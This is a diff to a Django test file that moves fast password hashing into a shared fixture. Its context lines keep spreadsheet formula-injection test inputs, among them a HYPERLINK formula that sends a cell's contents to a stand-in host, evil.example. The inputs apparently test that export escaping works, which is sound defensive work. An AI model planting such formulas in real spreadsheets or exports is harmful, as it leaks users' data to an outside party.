@@ -14,7 +14,7 @@ from laydown.arms import importer
 from laydown.people import importer as people_importer
 from laydown.testing import signed_in, user_with_role
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_password_hashing")]
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
 
@@ -22,11 +22,6 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
 @pytest.fixture
 def evil_item(collect) -> None:
     collect(make=EVIL, model="@SUM(1+1)", calibre="-2+3")
-
-
-@pytest.fixture(autouse=True)
-def fast_hashing(settings) -> None:
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
 
 
 def _body(response) -> bytes:
